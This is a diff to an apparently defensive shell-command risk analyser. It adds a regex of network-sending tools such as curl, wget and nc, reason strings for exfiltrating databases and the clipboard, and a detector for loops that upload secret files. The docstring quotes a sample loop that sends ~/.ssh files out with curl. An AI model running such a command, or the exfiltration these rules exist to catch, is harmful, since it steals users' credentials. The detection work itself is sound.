@@ -7,6 +7,7 @@ all reached by one iterative walk (nesting can be thousands deep). Shell code in
 
 from __future__ import annotations
 
+import re
 from dataclasses import replace
 
 from tree_sitter import Node
@@ -14,6 +15,7 @@ from tree_sitter import Node
 from tui.core.safety import effects, resolve
 from tui.core.safety.context import MAX_DEPTH, MAX_REPARSES, Context
 from tui.core.safety.feeds import literal_output, stdin_for, trusted_setup
+from tui.core.safety.flow import secret_path
 from tui.core.safety.model import RiskLevel
 from tui.core.safety.nodes import (
     INTERACTIVE_EDITORS,
@@ -48,10 +50,13 @@ from tui.core.safety.words import SUBSTITUTED, Word, evaluate, literal, node_tex
 
 MAX_KIND_NODES = 20_000  # node visits to classify substitutions, per assessment
 MAX_CALLS = 16  # function bodies followed into, per assessment
+SENDING_CALLS = re.compile(r"\b(curl|wget|nc|ncat|scp|rsync|mail|mutt|dig|nslookup|http)\b")
 GATHERED_REASONS = {
     "recon": "sends facts about this machine (users, network, system) to another machine",
     "personal": "packs a folder of your home and sends it to another machine",
     "image": "sends a whole container image (its code and any secrets built in) elsewhere",
+    "database": "sends a database dump to another machine",
+    "clipboard": "sends what is on the clipboard (often a password) to another machine",
 }
 HISTORY_VARIABLES = frozenset({"HISTFILE", "HISTSIZE", "HISTFILESIZE"})
 
@@ -65,6 +70,19 @@ def _last_command(body: Node | None) -> Node | None:
     if node is None or body is None or body.type != "list" or node.type != "command":
         return None
     return node
+
+
+def _loop_over_secrets(node: Node) -> str | None:
+    """`for f in ~/.ssh/*; do curl -F "k=@$f" URL; done`: each secret file sent in turn."""
+    values = [c for i, c in enumerate(node.children) if node.field_name_for_child(i) == "value"]
+    body = node.child_by_field_name("body")
+    if body is None or not SENDING_CALLS.search(node_text(body)):
+        return None
+    for value in values:
+        what = secret_path(evaluate(value).value)
+        if what:
+            return f"sends {what} to another machine, one file at a time"
+    return None
 
 
 class Analyser:
@@ -305,7 +323,7 @@ class Analyser:
                 self.ctx.add(RiskLevel.HIGH, reason, node_text(node))
 
     def _loop_flow(self, node: Node) -> None:
-        reason = loop_flow(node, self.kinds_of)
+        reason = loop_flow(node, self.kinds_of) or _loop_over_secrets(node)
         if reason is not None:
             self.ctx.add(RiskLevel.CRITICAL, reason, node_text(node)[:200])
 
